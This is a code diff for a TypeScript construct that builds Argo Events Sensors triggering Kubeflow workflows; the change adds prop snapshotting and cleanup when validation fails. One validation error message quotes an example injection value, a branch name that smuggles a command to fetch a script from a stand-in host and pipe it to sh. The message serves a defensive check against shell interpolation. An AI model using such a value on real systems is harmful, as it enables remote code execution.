@@ -2,7 +2,9 @@ import { Construct } from 'constructs';
 import { ProfileWorkflowTemplate } from '../kubeflow/profile-workflow-template';
 import { ShellSink } from '../kubeflow/shell-sinks';
 import { Platform } from '../platform';
-import { checkBoolean, checkDnsLabel, checkKnownKeys, checkList, checkNamespace, requireString, samePlatform, ValidationError, Where } from '../validation';
+import {
+  checkBoolean, checkDnsLabel, checkKnownKeys, checkList, checkNamespace, requireString, samePlatform, snapshotProps, ValidationError, Where,
+} from '../validation';
 import { ArgoEventsRbac, workflowVerbs } from './argo-events-rbac';
 import { EventField } from './event-field';
 import { SensorObject, TriggerParameter } from './events-api';
@@ -129,156 +131,163 @@ export class WorkflowTrigger extends Construct {
 
   constructor(scope: Construct, id: string, props: WorkflowTriggerProps) {
     super(scope, id);
-    const where = (prop: string): Where => ({ owner: 'WorkflowTrigger', prop });
-    if (!props) throw new ValidationError('WorkflowTrigger', 'props', props, 'are required', 'pass { eventSource, template }');
-    checkKnownKeys(where(''), props, PROPS);
-    const source = props.eventSource;
-    if (!(source instanceof WebhookEventSource)) {
-      throw new ValidationError('WorkflowTrigger', 'eventSource', typeof source, 'must be a WebhookEventSource construct', 'pass the event source instance');
-    }
-    this.platform = samePlatform(where('platform'), props.platform, source.platform, 'eventSource');
-    const submitFrom = checkBoolean(where('submitFrom'), props.submitFrom ?? false);
-    if (submitFrom && !this.platform.spec.argoEvents.submitFrom) {
-      throw new ValidationError('WorkflowTrigger', 'submitFrom', true,
-        `is not available on platform ${this.platform.id} (${this.platform.spec.argoEvents.release} has no submit-from operation)`,
-        'leave submitFrom off: a workflowTemplateRef Workflow runs the same template on every release');
-    }
-    if (submitFrom && props.parameters && Object.keys(props.parameters).length > 0) {
-      throw new ValidationError('WorkflowTrigger', 'submitFrom', true, 'cannot pass event fields as workflow parameters (parameters is set)',
-        'leave submitFrom off to map parameters, or drop parameters');
-    }
-    const eventName = props.eventName ?? source.eventNames[0];
-    if (!source.eventNames.includes(eventName)) {
-      throw new ValidationError('WorkflowTrigger', 'eventName', eventName,
-        `is not an event of EventSource "${source.name}" (it emits ${source.eventNames.map((e) => `"${e}"`).join(', ')})`, 'use one of those names');
-    }
-
-    const template = resolveTemplate(this, props.template);
-    this.templateName = template.name;
-    this.targetNamespace = checkNamespace(where('namespace'), props.namespace ?? template.namespace);
-    if (this.targetNamespace !== template.namespace) {
-      throw new ValidationError('WorkflowTrigger', 'namespace', this.targetNamespace,
-        `does not hold the template "${template.name}", which is in "${template.namespace}" (a workflowTemplateRef only finds templates in the Workflow's own namespace)`,
-        'leave namespace out, or pass the template of that namespace');
-    }
-
-    const sensorNamespace = source.namespace;
-    let serviceAccountName = 'operate-workflow-sa';
-    if (props.rbac !== undefined) {
-      if (!(props.rbac instanceof ArgoEventsRbac)) {
-        throw new ValidationError('WorkflowTrigger', 'rbac', typeof props.rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
+    // A construct whose props are refused leaves the tree as it was (it removes itself).
+    try {
+      props = snapshotProps('WorkflowTrigger', props);
+      const where = (prop: string): Where => ({ owner: 'WorkflowTrigger', prop });
+      if (!props) throw new ValidationError('WorkflowTrigger', 'props', props, 'are required', 'pass { eventSource, template }');
+      checkKnownKeys(where(''), props, PROPS);
+      const source = props.eventSource;
+      if (!(source instanceof WebhookEventSource)) {
+        throw new ValidationError('WorkflowTrigger', 'eventSource', typeof source, 'must be a WebhookEventSource construct', 'pass the event source instance');
       }
-      if (props.rbac.namespace !== sensorNamespace) {
-        throw new ValidationError('WorkflowTrigger', 'rbac', props.rbac.namespace,
-          `puts the ServiceAccount in "${props.rbac.namespace}" but the Sensor runs in "${sensorNamespace}" (a pod can only use a ServiceAccount of its own namespace)`,
-          'put ArgoEventsRbac in the event source namespace');
+      this.platform = samePlatform(where('platform'), props.platform, source.platform, 'eventSource');
+      const submitFrom = checkBoolean(where('submitFrom'), props.submitFrom ?? false);
+      if (submitFrom && !this.platform.spec.argoEvents.submitFrom) {
+        throw new ValidationError('WorkflowTrigger', 'submitFrom', true,
+          `is not available on platform ${this.platform.id} (${this.platform.spec.argoEvents.release} has no submit-from operation)`,
+          'leave submitFrom off: a workflowTemplateRef Workflow runs the same template on every release');
       }
-      const needed = workflowVerbs([submitFrom ? 'submit-from' : 'submit']);
-      const granted = workflowVerbs(props.rbac.operations);
-      if (!needed.every((v) => granted.includes(v))) {
-        throw new ValidationError('WorkflowTrigger', 'rbac', props.rbac.operations,
-          `does not grant the verbs ${submitFrom ? 'submit-from' : 'submit'} needs on workflows (${needed.join(', ')})`,
-          `add "${submitFrom ? 'submit-from' : 'submit'}" to ArgoEventsRbac operations`);
+      if (submitFrom && props.parameters && Object.keys(props.parameters).length > 0) {
+        throw new ValidationError('WorkflowTrigger', 'submitFrom', true, 'cannot pass event fields as workflow parameters (parameters is set)',
+          'leave submitFrom off to map parameters, or drop parameters');
       }
-      serviceAccountName = props.rbac.serviceAccountName;
-    }
-
-    const params = props.parameters ?? {};
-    if (params === null || typeof params !== 'object' || Array.isArray(params)) {
-      throw new ValidationError('WorkflowTrigger', 'parameters', params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
-    }
-    const paramNames = Object.keys(params).sort();
-    for (const p of paramNames) {
-      if (template.parameterNames && !template.parameterNames.includes(p)) {
-        throw new ValidationError('WorkflowTrigger', `parameters.${p}`, p,
-          `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
-          'declare it in the template\'s arguments.parameters or map one of the declared names');
+      const eventName = props.eventName ?? source.eventNames[0];
+      if (!source.eventNames.includes(eventName)) {
+        throw new ValidationError('WorkflowTrigger', 'eventName', eventName,
+          `is not an event of EventSource "${source.name}" (it emits ${source.eventNames.map((e) => `"${e}"`).join(', ')})`, 'use one of those names');
       }
-      if (!(params[p] instanceof EventField)) {
-        throw new ValidationError('WorkflowTrigger', `parameters.${p}`, params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
+
+      const template = resolveTemplate(this, props.template);
+      this.templateName = template.name;
+      this.targetNamespace = checkNamespace(where('namespace'), props.namespace ?? template.namespace);
+      if (this.targetNamespace !== template.namespace) {
+        throw new ValidationError('WorkflowTrigger', 'namespace', this.targetNamespace,
+          `does not hold the template "${template.name}", which is in "${template.namespace}" (a workflowTemplateRef only finds templates in the Workflow's own namespace)`,
+          'leave namespace out, or pass the template of that namespace');
       }
-    }
-    const allowShell = checkBoolean(where('allowShellInterpolation'), props.allowShellInterpolation ?? false);
-    const sink = allowShell ? undefined : template.shellSinks?.(paramNames)[0];
-    if (sink) {
-      throw new ValidationError('WorkflowTrigger', `parameters.${sink.parameter}`, params[sink.parameter].description,
-        `would become code: WorkflowTemplate "${template.name}" puts it into the ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (e.g. a branch named x";curl\${IFS}evil|sh;") runs commands as the workflow's service account`,
-        'pass it as data: an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script) or a positional argument after the script (args: [\'git clone --branch "$1" …\', "sh", "{{inputs.parameters.branch}}"]); or set allowShellInterpolation: true if the event source is trusted');
-    }
-    const branches = props.branches === undefined ? undefined : checkList(where('branches'), props.branches, checkBranch);
-    if (branches && source.type === 'webhook') {
-      throw new ValidationError('WorkflowTrigger', 'branches', branches, 'needs a github or gitlab source (a generic webhook has no push ref)', 'remove branches');
-    }
 
-    // the Sensor's account may act in the target namespace, and (without clusterWide) only there
-    props.rbac?.grantIn(this.targetNamespace);
+      const sensorNamespace = source.namespace;
+      let serviceAccountName = 'operate-workflow-sa';
+      if (props.rbac !== undefined) {
+        if (!(props.rbac instanceof ArgoEventsRbac)) {
+          throw new ValidationError('WorkflowTrigger', 'rbac', typeof props.rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
+        }
+        if (props.rbac.namespace !== sensorNamespace) {
+          throw new ValidationError('WorkflowTrigger', 'rbac', props.rbac.namespace,
+            `puts the ServiceAccount in "${props.rbac.namespace}" but the Sensor runs in "${sensorNamespace}" (a pod can only use a ServiceAccount of its own namespace)`,
+            'put ArgoEventsRbac in the event source namespace');
+        }
+        const needed = workflowVerbs([submitFrom ? 'submit-from' : 'submit']);
+        const granted = workflowVerbs(props.rbac.operations);
+        if (!needed.every((v) => granted.includes(v))) {
+          throw new ValidationError('WorkflowTrigger', 'rbac', props.rbac.operations,
+            `does not grant the verbs ${submitFrom ? 'submit-from' : 'submit'} needs on workflows (${needed.join(', ')})`,
+            `add "${submitFrom ? 'submit-from' : 'submit'}" to ArgoEventsRbac operations`);
+        }
+        serviceAccountName = props.rbac.serviceAccountName;
+      }
 
-    const defaultName = `${source.name}-${template.name}`;
-    this.name = checkDnsLabel(where('name'), props.name ?? defaultName);
-    this.dependencyName = `${source.name}-${eventName}`;
+      const params = props.parameters ?? {};
+      if (params === null || typeof params !== 'object' || Array.isArray(params)) {
+        throw new ValidationError('WorkflowTrigger', 'parameters', params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
+      }
+      const paramNames = Object.keys(params).sort();
+      for (const p of paramNames) {
+        if (template.parameterNames && !template.parameterNames.includes(p)) {
+          throw new ValidationError('WorkflowTrigger', `parameters.${p}`, p,
+            `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
+            'declare it in the template\'s arguments.parameters or map one of the declared names');
+        }
+        if (!(params[p] instanceof EventField)) {
+          throw new ValidationError('WorkflowTrigger', `parameters.${p}`, params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
+        }
+      }
+      const allowShell = checkBoolean(where('allowShellInterpolation'), props.allowShellInterpolation ?? false);
+      const sink = allowShell ? undefined : template.shellSinks?.(paramNames)[0];
+      if (sink) {
+        throw new ValidationError('WorkflowTrigger', `parameters.${sink.parameter}`, params[sink.parameter].description,
+          `would become code: WorkflowTemplate "${template.name}" puts it into the ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (e.g. a branch named x";curl\${IFS}evil|sh;") runs commands as the workflow's service account`,
+          'pass it as data: an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script) or a positional argument after the script (args: [\'git clone --branch "$1" …\', "sh", "{{inputs.parameters.branch}}"]); or set allowShellInterpolation: true if the event source is trusted');
+      }
+      const branches = props.branches === undefined ? undefined : checkList(where('branches'), props.branches, checkBranch);
+      if (branches && source.type === 'webhook') {
+        throw new ValidationError('WorkflowTrigger', 'branches', branches, 'needs a github or gitlab source (a generic webhook has no push ref)', 'remove branches');
+      }
 
-    const parameters: TriggerParameter[] = paramNames.map((p, i) => ({
-      src: { dependencyName: this.dependencyName, ...resolveField(params[p], source, p) },
-      dest: `spec.arguments.parameters.${i}.value`,
-    }));
+      // the Sensor's account may act in the target namespace, and (without clusterWide) only there
+      props.rbac?.grantIn(this.targetNamespace);
 
-    this.sensor = new SensorObject(this, 'Resource', {
-      metadata: { name: this.name, namespace: sensorNamespace },
-      spec: {
-        template: {
-          serviceAccountName,
-          ...(source.eventBus ? { metadata: { annotations: { ...source.eventBus.clientPodAnnotations } } } : {}),
-        },
-        dependencies: [{
-          name: this.dependencyName,
-          eventSourceName: source.name,
-          eventName,
-          // Argo Events matches string data filters as regular expressions: anchor and escape,
-          // or "main" would also match "refs/heads/main-old". A branch deletion is a push too
-          // (GitHub and GitLab send `after` as forty zeros): the second filter, ANDed, needs a
-          // commit in `after` (Go regexp has no look-ahead, so: any non-zero hex digit).
-          ...(branches ? {
-            filters: {
-              data: [
-                { path: 'body.ref', type: 'string', value: branches.map((b) => `^refs/heads/${escapeRegExp(b)}$`) },
-                { path: 'body.after', type: 'string', value: ['[1-9a-f]'] },
-              ],
-            },
-          } : {}),
-        }],
-        triggers: [{
+      const defaultName = `${source.name}-${template.name}`;
+      this.name = checkDnsLabel(where('name'), props.name ?? defaultName);
+      this.dependencyName = `${source.name}-${eventName}`;
+
+      const parameters: TriggerParameter[] = paramNames.map((p, i) => ({
+        src: { dependencyName: this.dependencyName, ...resolveField(params[p], source, p) },
+        dest: `spec.arguments.parameters.${i}.value`,
+      }));
+
+      this.sensor = new SensorObject(this, 'Resource', {
+        metadata: { name: this.name, namespace: sensorNamespace },
+        spec: {
           template: {
-            name: `submit-${template.name}`,
-            argoWorkflow: submitFrom
-              ? {
-                operation: 'submit-from',
-                source: {
-                  resource: {
-                    apiVersion: 'argoproj.io/v1alpha1',
-                    kind: 'WorkflowTemplate',
-                    metadata: { name: template.name, namespace: this.targetNamespace },
-                  },
-                },
-              }
-              : {
-                operation: 'submit',
-                source: {
-                  resource: {
-                    apiVersion: 'argoproj.io/v1alpha1',
-                    kind: 'Workflow',
-                    metadata: { generateName: `${template.name}-`, namespace: this.targetNamespace },
-                    spec: {
-                      workflowTemplateRef: { name: template.name },
-                      ...(paramNames.length ? { arguments: { parameters: paramNames.map((name) => ({ name, value: '' })) } } : {}),
+            serviceAccountName,
+            ...(source.eventBus ? { metadata: { annotations: { ...source.eventBus.clientPodAnnotations } } } : {}),
+          },
+          dependencies: [{
+            name: this.dependencyName,
+            eventSourceName: source.name,
+            eventName,
+            // Argo Events matches string data filters as regular expressions: anchor and escape,
+            // or "main" would also match "refs/heads/main-old". A branch deletion is a push too
+            // (GitHub and GitLab send `after` as forty zeros): the second filter, ANDed, needs a
+            // commit in `after` (Go regexp has no look-ahead, so: any non-zero hex digit).
+            ...(branches ? {
+              filters: {
+                data: [
+                  { path: 'body.ref', type: 'string', value: branches.map((b) => `^refs/heads/${escapeRegExp(b)}$`) },
+                  { path: 'body.after', type: 'string', value: ['[1-9a-f]'] },
+                ],
+              },
+            } : {}),
+          }],
+          triggers: [{
+            template: {
+              name: `submit-${template.name}`,
+              argoWorkflow: submitFrom
+                ? {
+                  operation: 'submit-from',
+                  source: {
+                    resource: {
+                      apiVersion: 'argoproj.io/v1alpha1',
+                      kind: 'WorkflowTemplate',
+                      metadata: { name: template.name, namespace: this.targetNamespace },
                     },
                   },
+                }
+                : {
+                  operation: 'submit',
+                  source: {
+                    resource: {
+                      apiVersion: 'argoproj.io/v1alpha1',
+                      kind: 'Workflow',
+                      metadata: { generateName: `${template.name}-`, namespace: this.targetNamespace },
+                      spec: {
+                        workflowTemplateRef: { name: template.name },
+                        ...(paramNames.length ? { arguments: { parameters: paramNames.map((name) => ({ name, value: '' })) } } : {}),
+                      },
+                    },
+                  },
+                  parameters,
                 },
-                parameters,
-              },
-          },
-        }],
-      },
-    });
+            },
+          }],
+        },
+      });
+    } catch (e) {
+      scope.node.tryRemoveChild(id);
+      throw e;
+    }
   }
 }
 
